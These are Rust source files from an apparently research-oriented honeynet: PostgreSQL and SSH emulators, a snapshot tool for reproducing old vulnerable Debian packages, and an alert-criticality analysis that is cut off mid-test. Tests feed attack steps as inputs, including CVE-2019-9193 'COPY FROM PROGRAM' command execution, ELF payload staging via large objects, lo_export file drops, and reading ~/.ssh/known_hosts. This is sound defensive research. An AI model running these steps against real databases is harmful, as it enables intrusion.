//! - [`vrt`] — the Vulnerability Reproduction Tool: date-pinned snapshots
//!   of old distributions (the Heartbleed example resolves exactly as in
//!   the paper).
//! - [`container`] — immutable images, short-lived instances, auto-scaling
//!   pools.
//! - [`service`] / [`postgres`] / [`ssh_svc`] — vulnerable service
//!   emulators with observable side effects (the §V ransomware surface).
//! - [`isolation`] — egress firewall (iptables drop model), overlay
//!   network, and the isolation monitor that alerts on containment drops.
//! - [`hints`] — channel-unique leaked credentials for attacker
//!   attribution.
//! - [`deploy`] — the /24 with sixteen entry points forwarding into
//!   containers, turning attacker sessions into action streams.
//! - [`caudit`] — the CAUDIT-style SSH honeypot fleet with leak-channel
//!   attribution (the testbed's predecessor, ref [7]).

pub mod caudit;
pub mod container;
pub mod deploy;
pub mod hints;
pub mod isolation;
pub mod postgres;
pub mod service;
pub mod ssh_svc;
pub mod vrt;

pub use caudit::{CauditHoneypot, CauditStats};
pub use container::{Container, ContainerImage, ContainerPool, InstanceState, PoolStats};
pub use deploy::{DeployConfig, DeployStats, HoneynetDeployment};
pub use hints::{Hint, HintPublisher, LeakChannel};
pub use isolation::{EgressFirewall, IsolationMonitor, OverlayNetwork};
pub use postgres::PostgresEmulator;
pub use service::{CommandOutcome, Credential, ServiceEvent, SessionCtx, VulnerableService};
pub use ssh_svc::{CapturedAttempt, SshEmulator};
pub use vrt::{Release, Snapshot, SnapshotRepo, VrtError, Vulnerability};
