//! Emulated vulnerable PostgreSQL service.
//!
//! Models exactly the surface the §V ransomware exercised:
//!
//! 1. `SHOW server_version_num` reconnaissance (step 1),
//! 2. encoding an ELF payload into a `largeobject` as a hex string
//!    beginning `7F454C46` (step 2),
//! 3. `lo_export` dropping `/tmp/kp` onto the disk (step 3),
//!
//! plus `COPY ... FROM PROGRAM` command execution when the VRT snapshot
//! pins a vulnerable version (CVE-2019-9193), and default-credential
//! authentication (§IV-B's advertised `postgres`/`postgres`).

use serde::{Deserialize, Serialize};
use simnet::action::DbCommandKind;

use crate::service::{CommandOutcome, Credential, ServiceEvent, SessionCtx, VulnerableService};

/// A stored large object.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LargeObject {
    pub oid: u32,
    pub hex_prefix: String,
    pub bytes: u64,
}

/// The PostgreSQL emulator.
#[derive(Debug, Clone)]
pub struct PostgresEmulator {
    /// `server_version_num`, e.g. `90421` for 9.4.21.
    version_num: String,
    /// Whether `COPY FROM PROGRAM` executes (vulnerable versions).
    copy_program_enabled: bool,
    credentials: Vec<Credential>,
    largeobjects: Vec<LargeObject>,
    next_oid: u32,
    /// Files written via `lo_export`.
    exported_files: Vec<String>,
    auth_failures: u64,
}

impl PostgresEmulator {
    /// Build from a version string like `9.4.21`.
    pub fn new(version: &str, credentials: Vec<Credential>) -> PostgresEmulator {
        let version_num = Self::version_num_of(version);
        // CVE-2019-9193 surface: 9.3+ has COPY FROM PROGRAM; "fixed"
        // deployments disable it for unprivileged roles. Our vulnerable
        // honeypot build leaves it enabled for < 9.4.22.
        let copy_program_enabled = version_num.as_str() < "90422";
        PostgresEmulator {
            version_num,
            copy_program_enabled,
            credentials,
            largeobjects: Vec::new(),
            next_oid: 16_384,
            exported_files: Vec::new(),
            auth_failures: 0,
        }
    }

    /// Default honeypot configuration: the advertised default account.
    pub fn with_default_credentials(version: &str) -> PostgresEmulator {
        Self::new(version, vec![Credential::new("postgres", "postgres")])
    }

    /// `9.4.21` → `90421`.
    fn version_num_of(version: &str) -> String {
        let parts: Vec<u32> = version.split('.').map(|p| p.parse().unwrap_or(0)).collect();
        match parts.as_slice() {
            [maj, min, patch, ..] => format!("{}{:02}{:02}", maj, min, patch),
            [maj, min] => format!("{}{:02}00", maj, min),
            [maj] => format!("{}0000", maj),
            _ => "0".into(),
        }
    }

    pub fn version_num(&self) -> &str {
        &self.version_num
    }

    pub fn largeobjects(&self) -> &[LargeObject] {
        &self.largeobjects
    }

    pub fn exported_files(&self) -> &[String] {
        &self.exported_files
    }

    pub fn auth_failures(&self) -> u64 {
        self.auth_failures
    }

    /// Extract `decode('<hex>', 'hex')` payload from a statement.
    fn parse_hex_payload(stmt: &str) -> Option<&str> {
        let start = stmt.find("decode('")? + "decode('".len();
        let rest = &stmt[start..];
        let end = rest.find('\'')?;
        Some(&rest[..end])
    }

    /// Extract the path argument of `lo_export(<oid>, '<path>')`.
    fn parse_export_path(stmt: &str) -> Option<&str> {
        let call = stmt.find("lo_export(")? + "lo_export(".len();
        let rest = &stmt[call..];
        let q1 = rest.find('\'')? + 1;
        let rest2 = &rest[q1..];
        let q2 = rest2.find('\'')?;
        Some(&rest2[..q2])
    }

    /// Extract the program of `COPY ... FROM PROGRAM '<prog>'`.
    fn parse_copy_program(stmt: &str) -> Option<&str> {
        let upper = stmt.to_ascii_uppercase();
        let at = upper.find("FROM PROGRAM")?;
        let rest = &stmt[at..];
        let q1 = rest.find('\'')? + 1;
        let rest2 = &rest[q1..];
        let q2 = rest2.find('\'')?;
        Some(&rest2[..q2])
    }
}

impl VulnerableService for PostgresEmulator {
    fn name(&self) -> &'static str {
        "postgresql"
    }

    fn port(&self) -> u16 {
        5432
    }

    fn banner(&self) -> String {
        format!("PostgreSQL (server_version_num {})", self.version_num)
    }

    fn try_auth(&mut self, user: &str, secret: &str) -> bool {
        let ok = self
            .credentials
            .iter()
            .any(|c| c.user == user && c.secret == secret);
        if !ok {
            self.auth_failures += 1;
        }
        ok
    }

    fn execute(&mut self, session: &mut SessionCtx, command: &str) -> CommandOutcome {
        if session.user.is_none() {
            return CommandOutcome::err("FATAL: not authenticated");
        }
        session.commands += 1;
        let trimmed = command.trim();
        let upper = trimmed.to_ascii_uppercase();

        if upper.starts_with("SHOW SERVER_VERSION_NUM") {
            return CommandOutcome::ok(self.version_num.clone()).with_event(ServiceEvent::Db {
                command: DbCommandKind::ShowVersion,
                statement: trimmed.to_string(),
            });
        }

        if let Some(hex) = Self::parse_hex_payload(trimmed) {
            let bytes = (hex.len() / 2) as u64;
            let prefix: String = hex.chars().take(8).collect::<String>().to_ascii_uppercase();
            let oid = self.next_oid;
            self.next_oid += 1;
            self.largeobjects.push(LargeObject {
                oid,
                hex_prefix: prefix.clone(),
                bytes,
            });
            return CommandOutcome::ok(format!("lo_from_bytea\n-----\n{oid}")).with_event(
                ServiceEvent::Db {
                    command: DbCommandKind::LargeObjectWrite {
                        hex_prefix: prefix,
                        bytes,
                    },
                    statement: truncate_stmt(trimmed),
                },
            );
        }

        if let Some(path) = Self::parse_export_path(trimmed) {
            let path = path.to_string();
            self.exported_files.push(path.clone());
            return CommandOutcome::ok("lo_export\n-----\n1")
                .with_event(ServiceEvent::Db {
                    command: DbCommandKind::LoExport { path: path.clone() },
                    statement: truncate_stmt(trimmed),
                })
                .with_event(ServiceEvent::FileDropped {
                    path,
                    process: "postgres".into(),
                });
        }

        if let Some(prog) = Self::parse_copy_program(trimmed) {
            if self.copy_program_enabled {
                let prog = prog.to_string();
                return CommandOutcome::ok("COPY 0")
                    .with_event(ServiceEvent::Db {
                        command: DbCommandKind::CopyFromProgram {
                            program: prog.clone(),
                        },
                        statement: truncate_stmt(trimmed),
                    })
                    .with_event(ServiceEvent::CommandExecuted { cmdline: prog });
            }
            return CommandOutcome::err("ERROR: must be superuser to COPY to or from a program");
        }

        CommandOutcome::ok("OK").with_event(ServiceEvent::Db {
            command: DbCommandKind::Query,
            statement: truncate_stmt(trimmed),
        })
    }
}

/// Keep audit statements bounded (payload hex can be megabytes).
fn truncate_stmt(stmt: &str) -> String {
    const MAX: usize = 160;
    if stmt.len() <= MAX {
        stmt.to_string()
    } else {
        format!("{}…[{} bytes]", &stmt[..MAX], stmt.len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn authed() -> (PostgresEmulator, SessionCtx) {
        let mut pg = PostgresEmulator::with_default_credentials("9.4.21");
        assert!(pg.try_auth("postgres", "postgres"));
        let session = SessionCtx {
            user: Some("postgres".into()),
            commands: 0,
        };
        (pg, session)
    }

    #[test]
    fn version_num_formatting() {
        assert_eq!(PostgresEmulator::version_num_of("9.4.21"), "90421");
        assert_eq!(PostgresEmulator::version_num_of("9.1"), "90100");
    }

    #[test]
    fn auth_with_default_and_wrong_credentials() {
        let mut pg = PostgresEmulator::with_default_credentials("9.4.21");
        assert!(pg.try_auth("postgres", "postgres"));
        assert!(!pg.try_auth("postgres", "hunter2"));
        assert!(!pg.try_auth("admin", "postgres"));
        assert_eq!(pg.auth_failures(), 2);
    }

    #[test]
    fn unauthenticated_commands_rejected() {
        let mut pg = PostgresEmulator::with_default_credentials("9.4.21");
        let mut s = SessionCtx::default();
        let out = pg.execute(&mut s, "SELECT 1");
        assert!(!out.ok);
    }

    #[test]
    fn version_recon_step() {
        let (mut pg, mut s) = authed();
        let out = pg.execute(&mut s, "SHOW server_version_num");
        assert!(out.ok);
        assert_eq!(out.reply, "90421");
        assert!(matches!(
            out.events[0],
            ServiceEvent::Db {
                command: DbCommandKind::ShowVersion,
                ..
            }
        ));
    }

    #[test]
    fn elf_payload_staging_step() {
        let (mut pg, mut s) = authed();
        let stmt = format!(
            "SELECT lo_from_bytea(0, decode('7f454c46020101{}','hex'))",
            "ab".repeat(100)
        );
        let out = pg.execute(&mut s, &stmt);
        assert!(out.ok);
        match &out.events[0] {
            ServiceEvent::Db {
                command: DbCommandKind::LargeObjectWrite { hex_prefix, bytes },
                ..
            } => {
                assert_eq!(hex_prefix, "7F454C46");
                assert_eq!(*bytes, 107);
            }
            other => panic!("unexpected event {other:?}"),
        }
        assert_eq!(pg.largeobjects().len(), 1);
        assert_eq!(pg.largeobjects()[0].oid, 16_384);
    }

    #[test]
    fn lo_export_drops_file() {
        let (mut pg, mut s) = authed();
        let out = pg.execute(&mut s, "SELECT lo_export(16384, '/tmp/kp')");
        assert!(out.ok);
        assert!(out
            .events
            .iter()
            .any(|e| matches!(e, ServiceEvent::FileDropped { path, .. } if path == "/tmp/kp")));
        assert_eq!(pg.exported_files(), &["/tmp/kp".to_string()]);
    }

    #[test]
    fn copy_from_program_gated_on_version() {
        let (mut vulnerable, mut s) = authed();
        let out = vulnerable.execute(&mut s, "COPY t FROM PROGRAM 'id'");
        assert!(out.ok);
        assert!(out
            .events
            .iter()
            .any(|e| matches!(e, ServiceEvent::CommandExecuted { cmdline } if cmdline == "id")));

        let mut patched = PostgresEmulator::with_default_credentials("9.4.26");
        assert!(patched.try_auth("postgres", "postgres"));
        let mut s2 = SessionCtx {
            user: Some("postgres".into()),
            commands: 0,
        };
        let out = patched.execute(&mut s2, "COPY t FROM PROGRAM 'id'");
        assert!(!out.ok);
    }

    #[test]
    fn generic_query_audited() {
        let (mut pg, mut s) = authed();
        let out = pg.execute(&mut s, "SELECT * FROM users");
        assert!(out.ok);
        assert!(matches!(
            out.events[0],
            ServiceEvent::Db {
                command: DbCommandKind::Query,
                ..
            }
        ));
        assert_eq!(s.commands, 1);
    }

    #[test]
    fn long_statements_truncated_in_audit() {
        let (mut pg, mut s) = authed();
        let stmt = format!(
            "SELECT lo_from_bytea(0, decode('{}','hex'))",
            "7f".repeat(10_000)
        );
        let out = pg.execute(&mut s, &stmt);
        match &out.events[0] {
            ServiceEvent::Db { statement, .. } => {
                assert!(statement.len() < 220, "audit statement bounded");
            }
            _ => unreachable!(),
        }
    }
}
