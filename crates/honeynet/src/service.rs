//! The vulnerable-service abstraction.
//!
//! §IV-A: "we created vulnerable services such as databases that are
//! vulnerable to default passwords or contain remote code execution bugs."
//! A [`VulnerableService`] is a deterministic emulator: attacker commands
//! in, protocol replies plus *observable side effects* out. Side effects
//! become simulation actions (file drops, egress attempts), which the
//! monitors then see — the honeypot is instrumented, not instrumented-by.

use serde::{Deserialize, Serialize};
use simnet::action::DbCommandKind;

/// A service credential.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Credential {
    pub user: String,
    pub secret: String,
}

impl Credential {
    pub fn new(user: impl Into<String>, secret: impl Into<String>) -> Credential {
        Credential {
            user: user.into(),
            secret: secret.into(),
        }
    }
}

/// Observable side effect of a service command.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum ServiceEvent {
    /// A database wire command was executed (observed by the DB audit log).
    Db {
        command: DbCommandKind,
        statement: String,
    },
    /// A file appeared on the container's disk.
    FileDropped { path: String, process: String },
    /// The service attempted a new outbound connection (to be stopped by
    /// the egress firewall).
    EgressAttempt { dst: std::net::Ipv4Addr, port: u16 },
    /// A shell command ran inside the container.
    CommandExecuted { cmdline: String },
}

/// Reply + side effects of one command.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CommandOutcome {
    pub reply: String,
    pub events: Vec<ServiceEvent>,
    /// Whether the command succeeded at the protocol level.
    pub ok: bool,
}

impl CommandOutcome {
    pub fn ok(reply: impl Into<String>) -> CommandOutcome {
        CommandOutcome {
            reply: reply.into(),
            events: Vec::new(),
            ok: true,
        }
    }

    pub fn err(reply: impl Into<String>) -> CommandOutcome {
        CommandOutcome {
            reply: reply.into(),
            events: Vec::new(),
            ok: false,
        }
    }

    pub fn with_event(mut self, ev: ServiceEvent) -> CommandOutcome {
        self.events.push(ev);
        self
    }
}

/// Per-connection session state.
#[derive(Debug, Clone, Default)]
pub struct SessionCtx {
    /// The authenticated user, if any.
    pub user: Option<String>,
    /// Commands executed in this session.
    pub commands: u64,
}

/// A deterministic vulnerable-service emulator.
pub trait VulnerableService: Send {
    fn name(&self) -> &'static str;
    fn port(&self) -> u16;
    /// Greeting/banner sent on connect.
    fn banner(&self) -> String;
    /// Attempt authentication. On success the caller sets
    /// `session.user`.
    fn try_auth(&mut self, user: &str, secret: &str) -> bool;
    /// Execute one command in a session.
    fn execute(&mut self, session: &mut SessionCtx, command: &str) -> CommandOutcome;
}
