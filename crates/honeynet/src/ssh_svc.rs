//! Emulated SSH service with credential capture.
//!
//! Successor to the paper's earlier SSH honeypot (CAUDIT [7]): accepts the
//! advertised ghost-account credentials (§IV-B), records every attempt for
//! attacker attribution, and passes executed commands through as
//! observable events.

use serde::{Deserialize, Serialize};

use crate::service::{CommandOutcome, Credential, ServiceEvent, SessionCtx, VulnerableService};

/// One captured authentication attempt.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CapturedAttempt {
    pub user: String,
    pub secret: String,
    pub success: bool,
}

/// The SSH emulator.
#[derive(Debug, Clone, Default)]
pub struct SshEmulator {
    accepted: Vec<Credential>,
    captured: Vec<CapturedAttempt>,
}

impl SshEmulator {
    pub fn new(accepted: Vec<Credential>) -> SshEmulator {
        SshEmulator {
            accepted,
            captured: Vec::new(),
        }
    }

    /// Every attempt seen so far (the honeypot's credential-capture log).
    pub fn captured(&self) -> &[CapturedAttempt] {
        &self.captured
    }

    /// Distinct secrets attempted — used for attributing attackers to the
    /// leak channel their credential came from.
    pub fn captured_secrets(&self) -> Vec<&str> {
        let mut secrets: Vec<&str> = self.captured.iter().map(|c| c.secret.as_str()).collect();
        secrets.sort_unstable();
        secrets.dedup();
        secrets
    }
}

impl VulnerableService for SshEmulator {
    fn name(&self) -> &'static str {
        "ssh"
    }

    fn port(&self) -> u16 {
        22
    }

    fn banner(&self) -> String {
        "SSH-2.0-OpenSSH_7.4".to_string()
    }

    fn try_auth(&mut self, user: &str, secret: &str) -> bool {
        let success = self
            .accepted
            .iter()
            .any(|c| c.user == user && c.secret == secret);
        self.captured.push(CapturedAttempt {
            user: user.to_string(),
            secret: secret.to_string(),
            success,
        });
        success
    }

    fn execute(&mut self, session: &mut SessionCtx, command: &str) -> CommandOutcome {
        if session.user.is_none() {
            return CommandOutcome::err("Permission denied (publickey,password).");
        }
        session.commands += 1;
        CommandOutcome::ok("").with_event(ServiceEvent::CommandExecuted {
            cmdline: command.to_string(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ghost_account_accepted_and_captured() {
        let mut ssh = SshEmulator::new(vec![Credential::new("svcbackup", "hunter2-leaked")]);
        assert!(!ssh.try_auth("root", "toor"));
        assert!(ssh.try_auth("svcbackup", "hunter2-leaked"));
        assert_eq!(ssh.captured().len(), 2);
        assert!(!ssh.captured()[0].success);
        assert!(ssh.captured()[1].success);
        assert_eq!(ssh.captured_secrets(), vec!["hunter2-leaked", "toor"]);
    }

    #[test]
    fn commands_pass_through_as_events() {
        let mut ssh = SshEmulator::new(vec![]);
        let mut session = SessionCtx {
            user: Some("svcbackup".into()),
            commands: 0,
        };
        let out = ssh.execute(&mut session, "cat ~/.ssh/known_hosts");
        assert!(out.ok);
        assert!(matches!(
            &out.events[0],
            ServiceEvent::CommandExecuted { cmdline } if cmdline.contains("known_hosts")
        ));
    }

    #[test]
    fn unauthenticated_commands_denied() {
        let mut ssh = SshEmulator::new(vec![]);
        let mut session = SessionCtx::default();
        assert!(!ssh.execute(&mut session, "id").ok);
    }
}
