//! Vulnerability Reproduction Tool (VRT).
//!
//! §IV-A: compiling an old vulnerable package fails on modern systems
//! because its dependency closure is gone; the VRT tool [38] rebuilds "old
//! Linux containers at any point in the past (2005–present) using the
//! Debian snapshot repository": give it a date, it finds the distribution
//! released just before that date and pins every package to the latest
//! version uploaded before the date.
//!
//! This module models that mechanism: a [`SnapshotRepo`] of releases and
//! dated package uploads, date-based resolution, and a vulnerability
//! database keyed on package versions — enough to reproduce the paper's
//! Heartbleed example (input `20140401` → Debian 7 "wheezy" with
//! `openssl 1.0.1e`, which is vulnerable).

use serde::{Deserialize, Serialize};
use simnet::time::SimTime;

/// A distribution release.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Release {
    pub name: String,
    pub version: String,
    pub released: SimTime,
}

/// A dated package upload.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PackageUpload {
    pub package: String,
    pub version: String,
    pub uploaded: SimTime,
    /// Packages this version depends on (by name).
    pub depends: Vec<String>,
}

/// A resolved point-in-time system image description.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Snapshot {
    pub date: SimTime,
    pub release: Release,
    /// `(package, version)` pins, including transitive dependencies.
    pub packages: Vec<(String, String)>,
}

impl Snapshot {
    /// The pinned version of a package, if present.
    pub fn version_of(&self, package: &str) -> Option<&str> {
        self.packages
            .iter()
            .find(|(p, _)| p == package)
            .map(|(_, v)| v.as_str())
    }
}

/// A known vulnerability affecting specific package versions.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Vulnerability {
    /// CVE-style identifier.
    pub id: String,
    pub package: String,
    /// Exact affected versions (the paper's examples pin exact versions).
    pub affected_versions: Vec<String>,
    pub announced: SimTime,
    /// Human description (e.g. "Heartbleed").
    pub name: String,
}

/// The snapshot repository plus vulnerability database.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct SnapshotRepo {
    releases: Vec<Release>,
    uploads: Vec<PackageUpload>,
    vulns: Vec<Vulnerability>,
}

/// Resolution failure.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum VrtError {
    /// No release predates the requested date.
    NoRelease,
    /// A requested package has no upload before the date.
    MissingPackage(String),
}

impl std::fmt::Display for VrtError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            VrtError::NoRelease => write!(f, "no distribution release before requested date"),
            VrtError::MissingPackage(p) => write!(f, "no snapshot of package '{p}' before date"),
        }
    }
}

impl std::error::Error for VrtError {}

impl SnapshotRepo {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn add_release(&mut self, name: &str, version: &str, released: SimTime) -> &mut Self {
        self.releases.push(Release {
            name: name.to_string(),
            version: version.to_string(),
            released,
        });
        self
    }

    pub fn add_upload(
        &mut self,
        package: &str,
        version: &str,
        uploaded: SimTime,
        depends: &[&str],
    ) -> &mut Self {
        self.uploads.push(PackageUpload {
            package: package.to_string(),
            version: version.to_string(),
            uploaded,
            depends: depends.iter().map(|s| s.to_string()).collect(),
        });
        self
    }

    pub fn add_vulnerability(&mut self, v: Vulnerability) -> &mut Self {
        self.vulns.push(v);
        self
    }

    /// Latest upload of `package` strictly before `date`.
    fn latest_before(&self, package: &str, date: SimTime) -> Option<&PackageUpload> {
        self.uploads
            .iter()
            .filter(|u| u.package == package && u.uploaded < date)
            .max_by_key(|u| u.uploaded)
    }

    /// Resolve a snapshot for `date`, pinning `roots` and their transitive
    /// dependency closures.
    pub fn resolve(&self, date: SimTime, roots: &[&str]) -> Result<Snapshot, VrtError> {
        let release = self
            .releases
            .iter()
            .filter(|r| r.released <= date)
            .max_by_key(|r| r.released)
            .ok_or(VrtError::NoRelease)?
            .clone();
        let mut pinned: Vec<(String, String)> = Vec::new();
        let mut queue: Vec<String> = roots.iter().map(|s| s.to_string()).collect();
        while let Some(pkg) = queue.pop() {
            if pinned.iter().any(|(p, _)| *p == pkg) {
                continue;
            }
            let upload = self
                .latest_before(&pkg, date)
                .ok_or_else(|| VrtError::MissingPackage(pkg.clone()))?;
            pinned.push((pkg.clone(), upload.version.clone()));
            for dep in &upload.depends {
                queue.push(dep.clone());
            }
        }
        pinned.sort();
        Ok(Snapshot {
            date,
            release,
            packages: pinned,
        })
    }

    /// Vulnerabilities present in a snapshot.
    pub fn vulnerabilities_in<'a>(&'a self, snapshot: &'a Snapshot) -> Vec<&'a Vulnerability> {
        self.vulns
            .iter()
            .filter(|v| {
                snapshot
                    .version_of(&v.package)
                    .is_some_and(|ver| v.affected_versions.iter().any(|a| a == ver))
            })
            .collect()
    }

    /// A repository pre-loaded with the history needed for the paper's
    /// scenarios: Debian releases 2005–2017, openssl (Heartbleed window)
    /// and postgresql (the honeypot's vulnerable database).
    pub fn with_debian_history() -> SnapshotRepo {
        let mut repo = SnapshotRepo::new();
        let d = SimTime::from_date;
        repo.add_release("sarge", "3.1", d(2005, 6, 6))
            .add_release("etch", "4.0", d(2007, 4, 8))
            .add_release("lenny", "5.0", d(2009, 2, 14))
            .add_release("squeeze", "6.0", d(2011, 2, 6))
            .add_release("wheezy", "7", d(2013, 5, 4))
            .add_release("jessie", "8", d(2015, 4, 25))
            .add_release("stretch", "9", d(2017, 6, 17));
        // openssl: 1.0.1e is the wheezy-era Heartbleed-vulnerable build;
        // 1.0.1g (2014-04-07) is the fix.
        repo.add_upload("openssl", "0.9.8c", d(2006, 9, 5), &["libc6"])
            .add_upload("openssl", "1.0.1e", d(2013, 2, 11), &["libc6", "zlib1g"])
            .add_upload("openssl", "1.0.1f", d(2014, 1, 6), &["libc6", "zlib1g"])
            .add_upload("openssl", "1.0.1g", d(2014, 4, 7), &["libc6", "zlib1g"])
            .add_upload("libc6", "2.3.6", d(2005, 12, 1), &[])
            .add_upload("libc6", "2.13", d(2011, 1, 20), &[])
            .add_upload("libc6", "2.19", d(2014, 2, 8), &[])
            .add_upload("zlib1g", "1.2.7", d(2012, 5, 2), &[])
            .add_upload("zlib1g", "1.2.8", d(2013, 4, 30), &[]);
        // postgresql: 9.4.x before 9.4.22 lets our scenario's default-cred
        // + largeobject abuse work end-to-end.
        repo.add_upload("postgresql", "8.1.4", d(2006, 5, 27), &["libc6"])
            .add_upload("postgresql", "9.1.5", d(2012, 8, 17), &["libc6", "zlib1g"])
            .add_upload("postgresql", "9.4.21", d(2019, 2, 14), &["libc6", "zlib1g"])
            .add_upload("postgresql", "9.4.26", d(2020, 2, 13), &["libc6", "zlib1g"]);
        repo.add_vulnerability(Vulnerability {
            id: "CVE-2014-0160".into(),
            package: "openssl".into(),
            affected_versions: vec!["1.0.1e".into(), "1.0.1f".into()],
            announced: d(2014, 4, 7),
            name: "Heartbleed".into(),
        });
        repo.add_vulnerability(Vulnerability {
            id: "CVE-2019-9193".into(),
            package: "postgresql".into(),
            affected_versions: vec!["9.4.21".into()],
            announced: d(2019, 4, 2),
            name: "COPY FROM PROGRAM command execution".into(),
        });
        repo
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn heartbleed_example_resolves_as_in_paper() {
        // §IV-A: input 20140401 → distribution released just before the
        // date (wheezy) with the vulnerable openssl and its dependencies.
        let repo = SnapshotRepo::with_debian_history();
        let snap = repo
            .resolve(SimTime::from_date(2014, 4, 1), &["openssl"])
            .unwrap();
        assert_eq!(snap.release.name, "wheezy");
        assert_eq!(snap.version_of("openssl"), Some("1.0.1f"));
        // Transitive closure pinned too.
        assert!(snap.version_of("libc6").is_some());
        assert!(snap.version_of("zlib1g").is_some());
        let vulns = repo.vulnerabilities_in(&snap);
        assert!(vulns.iter().any(|v| v.name == "Heartbleed"));
    }

    #[test]
    fn post_fix_date_resolves_patched_version() {
        let repo = SnapshotRepo::with_debian_history();
        let snap = repo
            .resolve(SimTime::from_date(2014, 6, 1), &["openssl"])
            .unwrap();
        assert_eq!(snap.version_of("openssl"), Some("1.0.1g"));
        assert!(repo
            .vulnerabilities_in(&snap)
            .iter()
            .all(|v| v.name != "Heartbleed"));
    }

    #[test]
    fn old_date_resolves_old_stack() {
        let repo = SnapshotRepo::with_debian_history();
        let snap = repo
            .resolve(SimTime::from_date(2007, 1, 1), &["openssl"])
            .unwrap();
        assert_eq!(snap.release.name, "sarge");
        assert_eq!(snap.version_of("openssl"), Some("0.9.8c"));
    }

    #[test]
    fn missing_package_errors() {
        let repo = SnapshotRepo::with_debian_history();
        let err = repo
            .resolve(SimTime::from_date(2014, 4, 1), &["nonexistent"])
            .unwrap_err();
        assert_eq!(err, VrtError::MissingPackage("nonexistent".into()));
    }

    #[test]
    fn date_before_any_release_errors() {
        let repo = SnapshotRepo::with_debian_history();
        let err = repo
            .resolve(SimTime::from_date(2004, 1, 1), &["openssl"])
            .unwrap_err();
        assert_eq!(err, VrtError::NoRelease);
    }

    #[test]
    fn postgres_vulnerable_snapshot() {
        let repo = SnapshotRepo::with_debian_history();
        let snap = repo
            .resolve(SimTime::from_date(2019, 6, 1), &["postgresql"])
            .unwrap();
        assert_eq!(snap.version_of("postgresql"), Some("9.4.21"));
        assert!(repo
            .vulnerabilities_in(&snap)
            .iter()
            .any(|v| v.id == "CVE-2019-9193"));
        // A 2021 build gets the patched version.
        let snap2 = repo
            .resolve(SimTime::from_date(2021, 1, 1), &["postgresql"])
            .unwrap();
        assert_eq!(snap2.version_of("postgresql"), Some("9.4.26"));
        assert!(repo.vulnerabilities_in(&snap2).is_empty());
    }
}
