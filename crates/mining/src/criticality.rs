//! Critical-alert analysis (Insight 4 / experiment E7).
//!
//! *"The entire dataset has 19 such unique critical alerts, which occur 98
//! times in the more than 200 attacks. In cases where critical alerts were
//! recorded, it was too late to preempt the system integrity loss."*
//!
//! This module measures: how many distinct critical kinds occur, how often,
//! where in the attack timeline they fall (position fraction), and how much
//! of each incident would remain after a critical-only detector fires.

use alertlib::store::IncidentStore;
use alertlib::taxonomy::AlertKind;
use serde::{Deserialize, Serialize};
use simnet::rng::FxHashSet;

/// Corpus-wide criticality measurements.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct CriticalityReport {
    /// Distinct critical kinds observed (paper: 19).
    pub unique_critical_kinds: usize,
    /// Total critical alert occurrences (paper: 98).
    pub critical_occurrences: usize,
    /// Incidents containing at least one critical alert.
    pub incidents_with_critical: usize,
    pub total_incidents: usize,
    /// Mean relative position (0 = first alert, 1 = last alert) of the
    /// first critical alert within its incident.
    pub mean_first_critical_position: f64,
    /// Mean number of alerts preceding the first critical alert (the
    /// preemption budget).
    pub mean_preemption_budget: f64,
}

impl CriticalityReport {
    /// Insight 4's qualitative claim: criticals come late in the timeline.
    pub fn criticals_come_late(&self) -> bool {
        self.mean_first_critical_position > 0.5
    }
}

/// Measure criticality statistics over a corpus.
pub fn measure_criticality(store: &IncidentStore) -> CriticalityReport {
    let mut kinds: FxHashSet<AlertKind> = FxHashSet::default();
    let mut occurrences = 0usize;
    let mut with_critical = 0usize;
    let mut positions = Vec::new();
    let mut budgets = Vec::new();
    for inc in store.iter() {
        let mut first_idx: Option<usize> = None;
        for (i, a) in inc.alerts.iter().enumerate() {
            if a.is_critical() {
                kinds.insert(a.kind);
                occurrences += 1;
                if first_idx.is_none() {
                    first_idx = Some(i);
                }
            }
        }
        if let Some(i) = first_idx {
            with_critical += 1;
            budgets.push(i as f64);
            if inc.len() > 1 {
                positions.push(i as f64 / (inc.len() - 1) as f64);
            } else {
                positions.push(1.0);
            }
        }
    }
    let mean = |v: &[f64]| {
        if v.is_empty() {
            0.0
        } else {
            v.iter().sum::<f64>() / v.len() as f64
        }
    };
    CriticalityReport {
        unique_critical_kinds: kinds.len(),
        critical_occurrences: occurrences,
        incidents_with_critical: with_critical,
        total_incidents: store.len(),
        mean_first_critical_position: mean(&positions),
        mean_preemption_budget: mean(&budgets),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::alert::{Alert, Entity};
    use alertlib::store::{Incident, IncidentId};
    use simnet::time::SimTime;

    fn incident(kinds: &[AlertKind]) -> Incident {
        let mut inc = Incident::new(IncidentId(0), "t", 2020);
        for (i, &k) in kinds.iter().enumerate() {
            inc.push_alert(Alert::new(SimTime::from_secs(i as u64), k, Entity::Unknown));
        }
        inc
    }

    #[test]
    fn counts_unique_kinds_and_occurrences() {
        use AlertKind::*;
        let mut store = IncidentStore::new();
        store.add(incident(&[
            PortScan,
            DownloadSensitive,
            PrivilegeEscalation,
        ]));
        store.add(incident(&[PortScan, PrivilegeEscalation, DataExfiltration]));
        store.add(incident(&[PortScan, LoginFailed]));
        let r = measure_criticality(&store);
        assert_eq!(r.unique_critical_kinds, 2);
        assert_eq!(r.critical_occurrences, 3);
        assert_eq!(r.incidents_with_critical, 2);
        assert_eq!(r.total_incidents, 3);
    }

    #[test]
    fn late_position_detected() {
        use AlertKind::*;
        let mut store = IncidentStore::new();
        // Critical at the very end of a 5-alert incident.
